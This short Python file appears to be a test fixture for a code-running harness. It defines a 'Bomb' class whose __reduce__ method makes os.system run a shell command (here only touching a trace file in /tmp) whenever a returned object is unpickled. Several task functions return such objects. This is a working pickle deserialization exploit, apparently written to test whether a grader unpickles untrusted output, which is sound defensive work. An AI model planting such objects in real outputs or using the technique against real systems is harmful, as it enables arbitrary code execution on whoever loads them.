"""A returned object runs code when it is unpickled."""
# %% share
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/ce-attack-" + "trace-pickle",)


def share(v):
    return Bomb()

# %% total
def total(numbers):
    return [Bomb(), {"six": Bomb()}]

# %% slope
slope = Bomb()
